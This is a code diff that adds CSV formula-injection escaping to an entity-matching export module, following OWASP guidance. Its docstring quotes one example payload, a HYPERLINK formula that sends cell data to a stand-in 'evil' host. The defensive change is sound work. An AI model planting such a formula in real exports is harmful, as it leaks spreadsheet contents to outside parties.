@@ -8,6 +8,11 @@
 
 ``accepted`` is a frame with at least ``left_id, right_id, type`` (plus ``analyst, decided_at,
 model_version, note`` for JSON), one row per pair.
+
+CSV cells that a spreadsheet would run as a formula (text starting with ``= + - @``, a tab or a
+carriage return) get a leading single quote, as OWASP's "CSV Injection" page recommends: an
+entity id like ``=HYPERLINK("http://evil/?"&A1)`` from a hostile data set then opens as text.
+Such an id is written as ``'=HYPERLINK(...)`` and reads back with the quote.
 """
 
 from __future__ import annotations
@@ -22,6 +27,24 @@ import pandas as pd
 
 from core.formats.errors import ProblemLog
 from core.formats.textio import parse_csv, read_text
+
+
+#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+#: (OWASP: = + - @ tab CR; the full-width forms, which LibreOffice also takes).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def spreadsheet_safe(cell: object) -> object:
+    """``cell`` with a leading ``'`` when it is text a spreadsheet would run as a formula.
+
+    Numbers are left alone (``-0.5`` is a number, not a formula); apply this to text columns.
+
+    >>> spreadsheet_safe('=1+1'), spreadsheet_safe('Matrix'), spreadsheet_safe(-3)
+    ("'=1+1", 'Matrix', -3)
+    """
+    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+        return "'" + cell
+    return cell
 
 
 def _table_id(entity_id: str, type_name: str) -> str:
@@ -45,7 +68,8 @@ def deepmatcher_csv(accepted: pd.DataFrame, *, left_type_of: dict[str, str] | No
         for row in frame.itertuples(index=False):
             left_type = (left_type_of or {}).get(row.type, row.type)
             right_type = (right_type_of or {}).get(row.type, row.type)
-            writer.writerow([_table_id(str(row.left_id), left_type), _table_id(str(row.right_id), right_type), label])
+            writer.writerow([spreadsheet_safe(_table_id(str(row.left_id), left_type)),
+                             spreadsheet_safe(_table_id(str(row.right_id), right_type)), label])
     return buffer.getvalue()
 
 
